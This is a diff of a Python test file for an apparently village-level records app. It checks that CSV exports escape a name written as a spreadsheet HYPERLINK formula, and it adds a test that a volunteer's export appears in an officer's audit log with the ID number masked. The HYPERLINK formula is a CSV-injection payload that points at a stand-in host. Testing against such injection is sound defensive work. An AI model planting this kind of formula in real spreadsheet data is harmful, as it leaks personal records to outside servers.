@@ -63,3 +63,12 @@ def test_a_name_that_looks_like_a_formula_is_exported_as_text(officer, household
     cells = [row[1] for row in rows[1:]]
     assert "'=HYPERLINK(\"http://x/?\"&A1,\"x\")" in cells
     assert not any(cell.startswith("=") for cell in cells)
+
+
+def test_an_export_without_a_village_filter_shows_in_the_officers_log(officer, volunteer, person_a):
+    from chumchon.core.selectors import audit_list
+
+    person_list_csv(user=volunteer, q="3-5011-00001-23-9")
+    entries = [e for e in audit_list(user=officer) if e.verb == "person.export"]
+    assert [(e.actor, e.area_code) for e in entries] == [(volunteer, "93110401")]
+    assert entries[0].data["q"] == "3-5011-xxxxx-xx-9"
